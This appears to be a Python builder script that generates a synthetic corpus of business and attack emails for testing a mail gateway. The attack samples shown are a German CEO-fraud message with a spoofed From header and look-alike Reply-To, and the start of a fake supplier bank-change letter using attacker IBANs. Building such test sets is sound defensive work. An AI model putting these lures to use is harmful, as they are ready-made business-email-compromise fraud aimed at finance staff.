#!/usr/bin/env python3
"""Deterministic builder for the Example Group mail-gateway evaluation set.
Python 3 standard library only. Run: python3 gen/build.py"""
import base64, quopri, zipfile, io, os, random, re, zlib, shutil, unicodedata
import html as H
import datetime as dt
from email.message import Message
from email.header import Header
from email.utils import formataddr, format_datetime

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
CET = dt.timezone(dt.timedelta(hours=1))
PST = dt.timezone(dt.timedelta(hours=-8))
UTC = dt.timezone.utc

# ----------------------------------------------------------------- bank ids
def _fmt(ib):
    return ' '.join(ib[i:i + 4] for i in range(0, len(ib), 4))

def iban(cc, bban):
    num = ''.join(str(int(c, 36)) for c in (bban + cc + '00'))
    return _fmt(f"{cc}{98 - int(num) % 97:02d}{bban}")

def iban_ok(s):
    s = s.replace(' ', '')
    r = s[4:] + s[:4]
    return int(''.join(str(int(c, 36)) for c in r)) % 97 == 1

def it_bban(abi, cab, conto):
    odd = [1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12, 14, 16, 10, 22, 25, 24, 23]
    s = abi + cab + conto
    tot = 0
    for i, ch in enumerate(s):
        v = int(ch) if ch.isdigit() else ord(ch) - 65
        tot += odd[v] if i % 2 == 0 else v
    return chr(65 + tot % 26) + s

def es_bban(bank, branch, acc):
    w = [1, 2, 4, 8, 5, 10, 9, 7, 3, 6]
    def d(s):
        r = 11 - sum(int(c) * w[i] for i, c in enumerate(s)) % 11
        return 0 if r == 11 else 1 if r == 10 else r
    return f"{bank}{branch}{d('00' + bank + branch)}{d(acc)}{acc}"

def pl_bban(sort7, acc16):
    w = [3, 9, 7, 1, 3, 9, 7]
    c = (10 - sum(int(a) * b for a, b in zip(sort7, w)) % 10) % 10
    return f"{sort7}{c}{acc16}"

def ru_account(bik, acc):
    """acc: 20 digits; the 9th digit is replaced by the control key (CBR algorithm)."""
    acc = acc[:8] + '0' + acc[9:]
    s = bik[-3:] + acc
    w = [7, 1, 3] * 8
    tot = sum((int(c) * w[i]) % 10 for i, c in enumerate(s))
    return acc[:8] + str(((tot % 10) * 3) % 10) + acc[9:]

def ru_ok(bik, acc):
    s = bik[-3:] + acc
    w = [7, 1, 3] * 8
    return sum((int(c) * w[i]) % 10 for i, c in enumerate(s)) % 10 == 0

# ------------------------------------------------------------- attachments
ZIPDATE = (2026, 11, 2, 9, 14, 0)

def _zip(files):
    b = io.BytesIO()
    with zipfile.ZipFile(b, 'w') as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=ZIPDATE)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data if isinstance(data, bytes) else data.encode('utf-8'))
    return b.getvalue()

def _pdfstr(s):
    out = []
    for ch in s:
        try:
            ch.encode('cp1252'); out.append(ch)
        except UnicodeEncodeError:
            f = unicodedata.normalize('NFKD', ch).encode('ascii', 'ignore').decode()
            out.append(f or '?')
    s = ''.join(out).encode('cp1252')
    return s.replace(b'\\', b'\\\\').replace(b'(', b'\\(').replace(b')', b'\\)')

def pdf(lines, title='Document', author='', producer='Microsoft: Print To PDF', created='20261102091400+01\'00\''):
    """Minimal single-page PDF 1.4 with correct xref table."""
    y = 800
    content = [b'BT', b'/F2 13 Tf', b'50 790 Td', b'16 TL']
    first = True
    for ln in lines:
        if ln == '':
            content.append(b'T*'); continue
        content.append(b'(' + _pdfstr(ln) + b') Tj T*')
        if first:
            content.append(b'/F1 9.5 Tf 13 TL'); first = False
    content.append(b'ET')
    stream = b'\n'.join(content)
    objs = [
        b'<< /Type /Catalog /Pages 2 0 R >>',
        b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R /F2 7 0 R >> >> /Contents 5 0 R >>',
        b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
        b'<< /Length ' + str(len(stream)).encode() + b' >>\nstream\n' + stream + b'\nendstream',
        b'<< /Title (' + _pdfstr(title) + b') /Author (' + _pdfstr(author) + b') /Producer (' + _pdfstr(producer) +
        b') /CreationDate (D:' + created.encode() + b') >>',
        b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>',
    ]
    out = bytearray(b'%PDF-1.4\n%\xe2\xe3\xcf\xd3\n')
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += f'{i} 0 obj\n'.encode() + o + b'\nendobj\n'
    xref = len(out)
    out += f'xref\n0 {len(objs) + 1}\n'.encode() + b'0000000000 65535 f \n'
    for o in offs:
        out += f'{o:010d} 00000 n \n'.encode()
    out += f'trailer\n<< /Size {len(objs) + 1} /Root 1 0 R /Info 6 0 R >>\nstartxref\n{xref}\n%%EOF\n'.encode()
    return bytes(out)

def _x(s):
    return H.escape(s, quote=True)

def docx(paras):
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
          '</Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            '</Relationships>')
    body = ''.join(f'<w:p><w:r><w:t xml:space="preserve">{_x(p)}</w:t></w:r></w:p>' for p in paras)
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
           + body + '<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>')
    return _zip([('[Content_Types].xml', ct), ('_rels/.rels', rels), ('word/document.xml', doc)])

def _col(i):
    s = ''
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        s = chr(65 + r) + s
    return s

def xlsx(rows, sheet='Sheet1'):
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
          '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
          '</Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            '</Relationships>')
    wbrels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
              '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
              '</Relationships>')
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
          f'<sheets><sheet name="{_x(sheet)}" sheetId="1" r:id="rId1"/></sheets></workbook>')
    rx = []
    for ri, row in enumerate(rows, 1):
        cells = []
        for ci, v in enumerate(row):
            ref = f'{_col(ci)}{ri}'
            if isinstance(v, (int, float)):
                cells.append(f'<c r="{ref}"><v>{v}</v></c>')
            else:
                cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{_x(str(v))}</t></is></c>')
        rx.append(f'<row r="{ri}">' + ''.join(cells) + '</row>')
    sh = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
          + ''.join(rx) + '</sheetData></worksheet>')
    return _zip([('[Content_Types].xml', ct), ('_rels/.rels', rels), ('xl/workbook.xml', wb),
                 ('xl/_rels/workbook.xml.rels', wbrels), ('xl/worksheets/sheet1.xml', sh)])

CT = {'pdf': 'application/pdf',
      'docx': 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      'xlsx': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      'zip': 'application/zip', 'htm': 'text/html', 'html': 'text/html'}

# ------------------------------------------------------------------ html
URL_RE = re.compile(r'https?://[^\s<>")]+')

def auto_html(text, cs, links=(), font='Calibri, Arial, sans-serif'):
    """text -> simple HTML as a mail client would produce. links: (anchor text, href) pairs;
    the anchor text is shown, the href may differ (as in phishing)."""
    esc = H.escape(text, quote=False)
    toks = {}
    for i, (a, href) in enumerate(links):
        t = f'\x00{i}\x00'
        ea = H.escape(a, quote=False)
        if ea in esc:
            esc = esc.replace(ea, t, 1)
            toks[t] = f'<a href="{H.escape(href)}">{ea}</a>'
    esc = URL_RE.sub(lambda m: f'<a href="{m.group(0)}">{m.group(0)}</a>', esc)
    for t, v in toks.items():
        esc = esc.replace(t, v)
    paras = [p.replace('\n', '<br>\n') for p in esc.strip('\n').split('\n\n')]
    body = '\n'.join(f'<p style="margin:0 0 10px 0">{p}</p>' for p in paras)
    return (f'<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset={cs}">\n</head>\n'
            f'<body style="font-family:{font};font-size:11pt;color:#1f1f1f">\n{body}\n</body>\n</html>\n')

def notif(cs, brand, color, title, paras, btn, href, footer, logo_text=None):
    """Templated notification HTML (service/phishing style) + matching text."""
    ps = ''.join(f'<p style="margin:0 0 14px 0;line-height:1.5">{H.escape(p).replace(chr(10), "<br>")}</p>' for p in paras)
    html = f'''<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset={cs}">
<meta name="viewport" content="width=device-width, initial-scale=1"><title>{H.escape(title)}</title></head>
<body style="margin:0;padding:0;background:#f3f4f6">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="background:#f3f4f6"><tr><td align="center" style="padding:24px 8px">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">
<tr><td style="background:{color};padding:18px 28px;color:#fff;font-size:20px;font-weight:bold">{H.escape(logo_text or brand)}</td></tr>
<tr><td style="padding:28px">
<h2 style="margin:0 0 18px 0;font-size:18px">{H.escape(title)}</h2>
{ps}
<p style="margin:24px 0"><a href="{H.escape(href)}" style="background:{color};color:#fff;text-decoration:none;padding:12px 26px;border-radius:4px;display:inline-block;font-weight:bold">{H.escape(btn)}</a></p>
</td></tr>
<tr><td style="padding:16px 28px;background:#fafafa;color:#777;font-size:11px;line-height:1.4">{H.escape(footer).replace(chr(10), "<br>")}</td></tr>
</table></td></tr></table></body></html>
'''
    text = f"{brand}\n\n{title}\n\n" + '\n\n'.join(paras) + f"\n\n{btn}: {href}\n\n--\n{footer}\n"
    return text, html

# ------------------------------------------------------------------ routes
def rhex(r, n):
    return ''.join(r.choice('0123456789abcdef') for _ in range(n))

def ralnum(r, n, alpha='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'):
    return ''.join(r.choice(alpha) for _ in range(n))

def pf_id(r):
    return '4' + ralnum(r, 1, 'XYZbcdfgh') + ralnum(r, 11, 'BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789')

def uuid(r, upper=False):
    s = f'{rhex(r,8)}-{rhex(r,4)}-4{rhex(r,3)}-{r.choice("89ab")}{rhex(r,3)}-{rhex(r,12)}'
    return s.upper() if upper else s

def rd(d):
    return format_datetime(d)

TLS = "\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n\t(No client certificate requested)"

def make_route(m, r, d):
    """returns (list of Received values top-first, message-id, extra headers list)"""
    via = m['via']; kind = via[0]; rcpt = m['rcpt']
    dom = m['from'][1].split('@')[1]
    d_mx = (d + dt.timedelta(seconds=r.randint(2, 35))).astimezone(CET)
    inner, extra = [], []
    tls = True
    if kind == 'gmail':
        last = r.randint(41, 68); sub = r.choice(['wr1', 'wm1', 'ej1', 'lf1', 'ed1', 'pl1', 'qk1'])
        ip = f"209.85.{r.choice([128, 208, 218, 221, 222])}.{last}"
        helo = rdns = f"mail-{sub}-f{last}.google.com"
        inner.append(f"by {helo} with SMTP id {rhex(r,6)}{r.randint(1000000,9999999)}f8f.{r.randint(1,12)}\n        for <{rcpt}>; {rd((d + dt.timedelta(seconds=1)).astimezone(PST))} (PST)")
        mid = f"<CA{ralnum(r,1,'BDEFGJKLMNOPRS')}{ralnum(r,43,'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-')}@mail.gmail.com>"
    elif kind in ('o365', 'hotmail'):
        region = via[1] if len(via) > 1 else 'eur'
        if kind == 'hotmail':
            srv = f"DU0P{r.randint(190,195)}MB{r.randint(1000,2999)}"; fqdn = f"{srv}.EURP{srv[4:7]}.PROD.OUTLOOK.COM"
            ip = f"40.92.{r.randint(64,127)}.{r.randint(10,250)}"; n = r.randint(10, 99)
            helo = f"EUR02-DB5-obe.outbound.protection.outlook.com"; rdns = f"mail-db5eur02olkn20{n}.outbound.protection.outlook.com"
        elif region == 'nam':
            pre = r.choice(['BY5PR', 'SA1PR', 'CH3PR', 'DM6PR']); srv = f"{pre}{r.randint(10,19)}MB{r.randint(1000,9999)}"
            fqdn = f"{srv}.namprd{srv[5:7]}.prod.outlook.com"
            ip = f"40.107.{r.choice([220,223,236,244])}.{r.randint(10,250)}"; n = r.randint(10, 99)
            helo = "NAM12-BN8-obe.outbound.protection.outlook.com"; rdns = f"mail-bn8nam12on20{n}.outbound.protection.outlook.com"
        else:
            pre = r.choice(['AM9PR', 'AS8PR', 'DB9PR', 'PAXPR', 'VI1PR', 'DU2PR']); srv = f"{pre}0{r.randint(1,9)}MB{r.randint(1000,9999)}"
            fqdn = f"{srv}.eurprd0{srv[6]}.prod.outlook.com"
            ip = f"40.107.{r.choice([20,21,22,104,105,130,135,159])}.{r.randint(10,250)}"; n = r.randint(10, 99)
            helo = f"EUR0{srv[6]}-AM6-obe.outbound.protection.outlook.com"; rdns = f"mail-am6eur0{srv[6]}on20{n}.outbound.protection.outlook.com"
        v6 = lambda: ':'.join(rhex(r, 4) for _ in range(4))
        inner.append(f"from {fqdn} ([fe80::{v6()}]) by {fqdn}\n ([fe80::{v6()}%{r.randint(3,7)}]) with mapi id 15.20.{r.randint(8600,8799)}.{r.randint(10,40):03d}; {rd(d.astimezone(UTC)).replace('-0000', '+0000')}")
        mid = f"<{srv}{rhex(r,32).upper()}@{fqdn}>"
        extra += [('Thread-Topic', None), ('Thread-Index', base64.b64encode(bytes(r.randint(0, 255) for _ in range(22))).decode()),
                  ('Content-Language', m.get('clang', 'en-US')), ('X-MS-Has-Attach', 'yes' if m['att'] else ''),
                  ('X-MS-TNEF-Correlator', '')]
    elif kind == 'int':
        _, ws, wsip = via
        helo, rdns, ip = 'mail-int01.example.com', 'mail-int01.example.com', '10.20.0.25'
        inner.append(f"from {ws}.corp.example.com ({ws}.corp.example.com [{wsip}])\n\tby mail-int01.example.com (Postfix) with ESMTPSA id {pf_id(r)};\n\t{rd((d + dt.timedelta(seconds=1)).astimezone(CET))} (CET)")
        mid = m.get('mid_style') and None or f"<{uuid(r)}@example.com>"
        if m.get('mid_style') == 'outlook-int':
            mid = f"<{rhex(r,8).upper()}{rhex(r,4).upper()}.{rhex(r,8)}@example.com>"
    elif kind == 'host':
        # ('host', helo, rdns, ip, [ (from_clause, by_clause, proto), ... ], mid_style)
        _, helo, rdns, ip, hops, style = via
        t = d
        for fc, bc, proto in hops:
            t = t + dt.timedelta(seconds=r.randint(0, 2))
            inner.append(f"from {fc}\n\tby {bc} with {proto} id {pf_id(r) if 'Postfix' in bc else ralnum(r,10,'0123456789ABCDEF')};\n\t{rd(t)}")
        inner.reverse()  # last listed hop is closest to the MX -> topmost
        if style == 'tb':
            mid = f"<{uuid(r)}@{dom}>"
        elif style == 'outlook':
            mid = f"<{rhex(r,4)}01db{rhex(r,4)}${rhex(r,8)}${rhex(r,8)}$@{dom}>"
        elif style == 'apple':
            mid = f"<{uuid(r, True)}@{dom}>"
        elif style == 'php':
            mid = f"<{ralnum(r,40)}@{helo}>"
        elif style == 'rc':
            mid = f"<{rhex(r,32)}@{dom}>"
        elif style == 'sap':
            mid = f"<{d.strftime('%Y%m%d%H%M%S')}.{r.randint(100000,999999)}.{rhex(r,12).upper()}@sap.{dom}>"
        elif style == 'esp':
            mid = f"<{d.strftime('%Y%m%d%H%M%S')}.{ralnum(r,20)}@{helo}>"
        elif style == 'bat':
            mid = f"<{r.randint(100000000,999999999)}.{d.strftime('%Y%m%d%H%M%S')}@{dom}>"
        else:
            mid = f"<{d.strftime('%Y%m%d%H%M%S')}.{rhex(r,16)}@{helo}>"
        tls = m.get('tls', True)
    else:
        raise ValueError(kind)
    top = (f"from {helo} ({rdns} [{ip}])" + (TLS if tls else '') +
           f"\n\tby mx01.example.com (Postfix) with {'ESMTPS' if tls else 'ESMTP'} id {pf_id(r)}\n\tfor <{rcpt}>; {rd(d_mx)} (CET)")
    return [top] + inner, mid, extra

# ------------------------------------------------------------------ build
MSGS = []

def add(kind, lang, slug, **kw):
    kw.setdefault('att', [])
    kw.setdefault('fmt', 'plain')
    kw.setdefault('cte', 'qp')
    kw['kind'] = kind; kw['lang'] = lang; kw['slug'] = slug
    MSGS.append(kw)

def A(lang, slug, **kw): add('attack', lang, slug, **kw)
def B(lang, slug, **kw): add('business', lang, slug, **kw)

def hval(s, cs, name):
    if s.isascii():
        return s
    try:
        s.encode(cs)
    except UnicodeEncodeError:
        cs = 'utf-8'
    return Header(s, cs, header_name=name).encode()

def addr(pair, cs):
    name, a = pair
    if not name:
        return a
    try:
        if not name.isascii():
            name.encode(cs)
            return formataddr((name, a), charset=cs)
    except UnicodeEncodeError:
        return formataddr((name, a), charset='utf-8')
    return formataddr((name, a))

def text_part(content, subtype, cs, cte):
    p = Message()
    data = content.replace('\r\n', '\n').encode(cs)  # strict: text must fit the charset
    p['Content-Type'] = f'text/{subtype}; charset="{cs}"'
    if cte == 'qp':
        p['Content-Transfer-Encoding'] = 'quoted-printable'
        p.set_payload(quopri.encodestring(data).decode('ascii'))
    elif cte == 'b64':
        p['Content-Transfer-Encoding'] = 'base64'
        p.set_payload(base64.encodebytes(data).decode('ascii'))
    else:
        if not data.isascii():
            raise ValueError('7bit with non-ascii')
        p['Content-Transfer-Encoding'] = '7bit'
        p.set_payload(data.decode('ascii'))
    return p

def att_part(name, data):
    ext = name.rsplit('.', 1)[1].lower()
    ctype = CT.get(ext, 'application/octet-stream')
    p = Message()
    p['Content-Type'] = f'{ctype}; name="{name}"'
    p['Content-Disposition'] = f'attachment; filename="{name}"; size={len(data)}'
    p['Content-Transfer-Encoding'] = 'base64'
    p.set_payload(base64.encodebytes(data).decode('ascii'))
    return p

def boundary(r, style):
    if style == 'gmail':
        return '0000000000' + rhex(r, 18)
    if style == 'outlook':
        return f'_000_{ralnum(r,30,"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")}_'
    if style == 'tb':
        return '------------' + ralnum(r, 24)
    return '----=_Part_' + f'{r.randint(10000,99999)}_{r.randint(100000000,999999999)}.{r.randint(1700000000000,1799999999999)}'

def build_msg(m, fname):
    r = random.Random(zlib.crc32(fname.encode()))
    cs = m['cs']
    d = dt.datetime.strptime(m['date'], '%Y-%m-%d %H:%M:%S %z')
    to = m['to'] if isinstance(m['to'], list) else [m['to']]
    m['rcpt'] = m.get('rcpt', to[0][1])
    recs, mid, extra = make_route(m, r, d)
    msg = Message()
    for rv in recs:
        msg['Received'] = rv
    for k, v in m.get('pre', []):
        msg[k] = v
    msg['Date'] = rd(d)
    msg['From'] = addr(m['from'], cs)
    msg['To'] = ', '.join(addr(t, cs) for t in to)
    if m.get('cc'):
        msg['Cc'] = ', '.join(addr(t, cs) for t in m['cc'])
    if m.get('reply_to'):
        msg['Reply-To'] = addr(m['reply_to'], cs)
    msg['Subject'] = hval(m['subject'], cs, 'Subject')
    msg['Message-ID'] = m.get('mid', mid)
    if m.get('irt'):
        msg['In-Reply-To'] = m['irt']
        msg['References'] = m['irt']
    for k, v in extra:
        if k == 'Thread-Topic':
            v = hval(re.sub(r'^(?:(?:AW|RE|Re|R|WG|FW|Odp|RV|ΑΠ|Ответ):\s*)+', '', m['subject']), cs, k)
        msg[k] = v
    for k, v in m.get('hdrs', []):
        msg[k] = v
    msg['MIME-Version'] = '1.0'

    bstyle = m.get('bstyle') or {'gmail': 'gmail', 'o365': 'outlook', 'hotmail': 'outlook'}.get(m['via'][0], 'part')
    fmt, cte = m['fmt'], m['cte']
    text, html = m.get('text'), m.get('html')
    if cs == 'koi8-r' and text:  # KOI8-R has no guillemets / numero sign; users type plain quotes
        text = text.replace('«', '"').replace('»', '"').replace('№', 'N')
    if fmt in ('alt', 'html') and html is None:
        html = auto_html(text, cs, m.get('links', ()))
    if fmt == 'plain':
        body = text_part(text, 'plain', cs, cte)
    elif fmt == 'html':
        body = text_part(html, 'html', cs, m.get('hcte', cte))
    else:
        body = Message()
        body['Content-Type'] = f'multipart/alternative; boundary="{boundary(r, bstyle)}"'
        body.attach(text_part(text, 'plain', cs, cte))
        body.attach(text_part(html, 'html', cs, m.get('hcte', cte)))
    if m['att']:
        top = Message()
        top['Content-Type'] = f'multipart/mixed; boundary="{boundary(r, bstyle)}"'
        top.attach(body)
        for name, data in m['att']:
            top.attach(att_part(name, data))
        body = top
    for k in body.keys():
        msg[k] = body[k]
    if body.is_multipart():
        for p in body.get_payload():
            msg.attach(p)
        if bstyle in ('outlook', 'part'):
            msg.preamble = 'This is a multi-part message in MIME format.' if bstyle == 'part' else None
    else:
        msg.set_payload(body.get_payload())
    return msg.as_string(maxheaderlen=0)

# ------------------------------------------------------------ the company
STAFF = [
    # name, address, office, role
    ('Markus Hoffmann', 'markus.hoffmann@example.com', 'Hamburg (HQ)', 'CEO / Geschäftsführer'),
    ('Sabine Krüger', 'sabine.krueger@example.com', 'Hamburg (HQ)', 'CFO'),
    ('Jens Vogt', 'jens.vogt@example.com', 'Hamburg (HQ)', 'Head of Accounts Payable'),
    ('Anna Schulte', 'anna.schulte@example.com', 'Hamburg (HQ)', 'Accounts Receivable'),
    ('Dr. Katrin Albrecht', 'katrin.albrecht@example.com', 'Hamburg (HQ)', 'Head of Regulatory Affairs & QA, PRRC'),
    ('Tobias Brandt', 'tobias.brandt@example.com', 'Hamburg (HQ)', 'Purchasing Manager'),
    ('Lena Fischer', 'lena.fischer@example.com', 'Hamburg (HQ)', 'HR & Payroll'),
    ('Stefan Wolff', 'stefan.wolff@example.com', 'Hamburg (HQ)', 'IT Administrator'),
    ('Miriam Yilmaz', 'miriam.yilmaz@example.com', 'Hamburg (HQ)', 'Inside Sales DACH'),
    ('Felix Neumann', 'felix.neumann@example.com', 'Hamburg (HQ)', 'Logistics & Warehouse Lead'),
    ('Giulia Ferraro', 'giulia.ferraro@example.com', 'Milano (IT)', 'Country Manager Italy'),
    ('Luca Bianchi', 'luca.bianchi@examplegroup.eu', 'Milano (IT)', 'Amministrazione / Accounting Italy'),
    ('Chiara Esposito', 'chiara.esposito@example.com', 'Milano (IT)', 'Tenders & Public Sales Italy'),
    ('Piotr Nowak', 'piotr.nowak@example.com', 'Poznań (PL)', 'Branch Manager Poland'),
    ('Katarzyna Wiśniewska', 'katarzyna.wisniewska@examplegroup.eu', 'Poznań (PL)', 'Accounting Poland'),
    ('Marek Kowalczyk', 'marek.kowalczyk@example.com', 'Poznań (PL)', 'Key Account Manager Hospitals PL'),
    ('Carmen Ruiz', 'carmen.ruiz@example.com', 'Madrid (ES)', 'Country Manager Spain'),
    ('Javier Moreno', 'javier.moreno@examplegroup.eu', 'Madrid (ES)', 'Licitaciones / Public Tenders Spain'),
    ('Lucía Navarro', 'lucia.navarro@example.com', 'Madrid (ES)', 'Administración / Accounting Spain'),
    ('Nikos Papadopoulos', 'nikos.papadopoulos@example.com', 'Athens (GR)', 'Country Manager Greece'),
    ('Eleni Georgiou', 'eleni.georgiou@examplegroup.eu', 'Athens (GR)', 'Accounting & Tenders Greece'),
    ('James Whitfield', 'james.whitfield@example.com', 'Reading (UK)', 'Managing Director UK'),
    ('Sarah Collins', 'sarah.collins@example.com', 'Reading (UK)', 'Finance Manager UK'),
    ('Priya Shah', 'priya.shah@example.com', 'Reading (UK)', 'Quality & UKCA Regulatory Specialist'),
    ('Dmitry Sokolov', 'dmitry.sokolov@example.com', 'Moscow (RU)', 'Head of Moscow Office'),
    ('Olga Ivanova', 'olga.ivanova@examplegroup.eu', 'Moscow (RU)', 'Chief Accountant Russia'),
]
S = {n.replace('Dr. ', '').split()[0].lower(): (n.replace('Dr. ', ''), a) for n, a, _, _ in STAFF}
# S['markus'] -> ('Markus Hoffmann', 'markus.hoffmann@example.com'); Lucía -> 'lucía'

# Known bank details of real correspondents (used consistently)
IB = {
    'lieferant': iban('DE', '64350070' + '0000412577'),           # Kreissparkasse Tuttlingen
    'ferretti_old': iban('IT', it_bban('05034', '11101', '000000004471')),
    'ferretti_new': iban('IT', it_bban('03069', '53480', '100000018822')),
    'partner': iban('PL', pl_bban('1020404', '0000190212345678')),
    'kessler': iban('DE', '20050550' + '1237448810'),
    'herrera': iban('ES', es_bban('2100', '1578', '0200118822')),
    'example_de': iban('DE', '20040000' + '0412773100'),
    # attacker-controlled accounts
    'att_de_lief': iban('DE', '20040000' + '0613884512'),
    'att_de_payroll': iban('DE', '12030000' + '1084471902'),
    'att_lt': iban('LT', '32500' + '87441902775'),
    'att_gb': iban('GB', 'CLRB' + '040084' + '71193805'),
    'att_it': iban('IT', it_bban('36772', '22300', '000000779214')),
    'att_pl': iban('PL', pl_bban('1140200', '0040020077514402')),
    'att_pl2': iban('PL', pl_bban('1050155', '1000009032771456')),
    'att_es': iban('ES', es_bban('1465', '0100', '2044718832')),
    'att_es2': iban('ES', es_bban('0182', '7563', '0201547712')),
    'att_gr': iban('GR', '0110125' + '0000012544719330'),
    'ffm_notar': iban('DE', '50010517' + '5413377120'),
}

# =====================================================================
#                               ATTACKS
# =====================================================================

# ---- A01 de: CEO fraud, header-spoofed From + look-alike Reply-To
A('de', 'ceo-fraud-uebernahme-anderkonto', cs='iso-8859-15', cte='qp', date='2026-11-19 16:48:05 +0100',
  via=('host', 'mail.examplegroup-eu.com', 'static.13.77.198.88.clients.your-server.de', '88.198.77.13',
       [('localhost (localhost [127.0.0.1])', 'mail.examplegroup-eu.com (Postfix)', 'ESMTP')], 'apple'),
  **{'from': ('Markus Hoffmann', 'markus.hoffmann@example.com')},
  reply_to=('Markus Hoffmann', 'markus.hoffmann@examplegroup-eu.com'),
  to=[S['sabine']], subject='Vertraulich - Projekt Mailand',
  hdrs=[('X-Mailer', 'iPad Mail (22B91)')],
  desc='CEO fraud: From header spoofs the CEO, Reply-To goes to look-alike examplegroup-eu.com; secret acquisition, asks CFO to prepare a same-day transfer of EUR 248,500 to a "lawyer escrow account" and not to tell anyone.',
  text="""Hallo Sabine,

ich bin noch in Mailand bei den Gesprächen und kann gerade nicht telefonieren. Wie im letzten Beiratstermin angedeutet, stehen wir kurz vor der Unterzeichnung der Übernahme eines Wettbewerbers in Norditalien. Bis zur offiziellen Bekanntgabe gilt strikte Vertraulichkeit (kapitalmarktrechtliche Insiderregeln auf Käuferseite), bitte sprich deshalb vorerst mit niemandem im Haus darüber, auch nicht mit Jens.

Für die Exklusivitätsvereinbarung müssen wir heute noch eine Anzahlung von 248.500,00 EUR auf das Anderkonto der begleitenden Kanzlei leisten. Rechtsanwalt Dr. Frank Reinhardt wird sich in den nächsten Minuten bei Dir melden und Dir Kontodaten und Vertragsentwurf schicken. Bitte behandle seine Anweisungen wie meine eigenen.

Kannst Du mir kurz bestätigen, dass Du heute bis 17:30 Uhr noch eine Eilüberweisung freigeben kannst und wie viel Tageslimit im Online-Banking frei ist? Antworte bitte nur per Mail, ich sitze in den Verhandlungen.

Danke Dir, ich erkläre Dir alles ausführlich, sobald ich zurück bin.

Markus

Von meinem iPad gesendet
""")

# ---- A02 de: supplier bank-detail change from look-alike domain (M365 tenant), PDF letter
_a02_pdf = pdf(['Lieferant GmbH', 'Gänsäcker 12 - 78532 Tuttlingen - Tel. +49 7461 9688-0', '',
                'An: Example Group GmbH, Kreditorenbuchhaltung, Süderstraße 77, 20097 Hamburg', '',
                'Tuttlingen, 12.11.2026', '', 'Mitteilung über die Änderung unserer Bankverbindung', '',
                'Sehr geehrte Damen und Herren,',
                'im Rahmen der Neuordnung unseres Zahlungsverkehrs wird unsere bisherige Bankverbindung',
                'bei der Kreissparkasse Tuttlingen zum 30.11.2026 aufgelöst. Bitte veranlassen Sie alle',
                'Zahlungen ab sofort ausschließlich auf folgendes Konto:', '',
                'Kontoinhaber: Lieferant GmbH', 'Kreditinstitut: Commerzbank AG',
                'IBAN: ' + IB['att_de_lief'], 'BIC: COBADEFFXXX', '',
